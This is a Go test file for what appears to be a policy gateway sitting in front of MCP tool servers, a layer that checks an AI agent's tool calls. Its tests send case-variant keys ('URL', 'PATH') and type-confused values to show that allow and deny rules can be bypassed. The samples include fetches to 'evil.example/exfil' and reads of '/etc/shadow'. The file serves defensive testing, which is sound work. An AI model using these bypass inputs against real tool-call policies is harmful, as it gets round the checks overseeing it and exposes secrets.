package main

import (
	"context"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/mark3labs/mcp-go/mcp"
	"github.com/mark3labs/mcp-go/server"
)

// TestArgumentKeyCaseVariant (found by an attacker review): a condition reads args.url, but the
// arguments also carry "URL" (or "ur\u212a"-style Unicode fold variants).
// A Go upstream binding arguments to a struct with encoding/json (mcp-go's
// NewTypedToolHandler, BindArguments) matches keys case-insensitively and
// takes the last one, so it fetches a URL the condition never saw.
func TestArgumentKeyCaseVariant(t *testing.T) {
	var mu sync.Mutex
	var fetched []string
	s := server.NewMCPServer("fetcher", "1")
	type fetchArgs struct {
		URL string `json:"url"`
	}
	s.AddTool(mcp.NewTool("fetch", mcp.WithString("url")), mcp.NewTypedToolHandler(func(_ context.Context, _ mcp.CallToolRequest, a fetchArgs) (*mcp.CallToolResult, error) {
		mu.Lock()
		fetched = append(fetched, a.URL)
		mu.Unlock()
		return mcp.NewToolResultText("fetched " + a.URL), nil
	}))
	g := startServeWith(t, `policy:
  default: deny
  result_mode: tool_result
  rules:
    - {id: intranet-only, match: {match_tool: [fetch]}, when: 'args.url.startsWith("https://intranet.example/")', decision: allow}
`, func(http.Handler) http.Handler { return server.NewStreamableHTTPServer(s) })

	hdr := session2025(t, g.url, "alice", "{}")

	for i, args := range []string{
		`{"url":"https://intranet.example/a","URL":"https://evil.example/exfil?1"}`,
		`{"url":"https://intranet.example/a","Url":"https://evil.example/exfil?2"}`,
		`{"url":"https://intranet.example/a","\u0055RL":"https://evil.example/exfil?3"}`,
	} {
		_, _, got := postWithHeaders(t, g.url, hdr, `{"jsonrpc":"2.0","id":`+string(rune('1'+i))+`,"method":"tools/call","params":{"name":"fetch","arguments":`+args+`}}`)
		t.Logf("%s -> %s", args, got)
	}
	mu.Lock()
	defer mu.Unlock()
	for _, u := range fetched {
		if !strings.HasPrefix(u, "https://intranet.example/") {
			t.Errorf("the upstream fetched %q, which the condition args.url.startsWith(\"https://intranet.example/\") never saw", u)
		}
	}
}

// TestArgumentTypeAndLoneCaseVariant (found by an attacker review): a deny
// rule's condition did not hold for arguments an mcp-go upstream reads as
// what the rule denies. CEL compares values of different types as unequal
// (no error), and mcp-go's RequireBool reads "true" and 1 as true; and a
// condition that tolerates a missing argument (has(), as the policy docs
// advise) does not hold for {"PATH": ...}, which encoding/json binds to
// the field path.
func TestArgumentTypeAndLoneCaseVariant(t *testing.T) {
	var mu sync.Mutex
	var done []string
	s := server.NewMCPServer("git", "1")
	s.AddTool(mcp.NewTool("push", mcp.WithBoolean("force")), func(_ context.Context, r mcp.CallToolRequest) (*mcp.CallToolResult, error) {
		force, _ := r.RequireBool("force")
		mu.Lock()
		done = append(done, "push force="+strconv.FormatBool(force))
		mu.Unlock()
		return mcp.NewToolResultText("pushed"), nil
	})
	type readArgs struct {
		Path string `json:"path"`
	}
	s.AddTool(mcp.NewTool("read_file", mcp.WithString("path")), mcp.NewTypedToolHandler(func(_ context.Context, _ mcp.CallToolRequest, a readArgs) (*mcp.CallToolResult, error) {
		mu.Lock()
		done = append(done, "read "+a.Path)
		mu.Unlock()
		return mcp.NewToolResultText("read " + a.Path), nil
	}))
	g := startServeWith(t, `policy:
  default: allow
  result_mode: tool_result
  rules:
    - {id: no-force-push, match: {match_tool: [push]}, when: 'args.force == true', decision: deny}
    - {id: no-etc, match: {match_tool: [read_file]}, when: 'has(args.path) && args.path.startsWith("/etc/")', decision: deny}
`, func(http.Handler) http.Handler { return server.NewStreamableHTTPServer(s) })

	hdr := session2025(t, g.url, "alice", "{}")

	for i, c := range []string{
		`"name":"push","arguments":{"force":"true"}`,
		`"name":"push","arguments":{"force":1}`,
		`"name":"read_file","arguments":{"PATH":"/etc/shadow"}`,
		`"name":"read_file","arguments":{"Path":"/etc/shadow"}`,
		`"name":"push","arguments":{"force":false}`, // allowed: the upstream must see these
		`"name":"read_file","arguments":{"path":"/tmp/notes"}`,
	} {
		_, _, got := postWithHeaders(t, g.url, hdr, `{"jsonrpc":"2.0","id":`+strconv.Itoa(i+1)+`,"method":"tools/call","params":{`+c+`}}`)
		t.Logf("%s -> %s", c, got)
	}
	mu.Lock()
	defer mu.Unlock()
	if want := []string{"push force=false", "read /tmp/notes"}; !slices.Equal(done, want) {
		t.Errorf("the upstream did %q, want only %q: a denied push or read went through", done, want)
	}
}
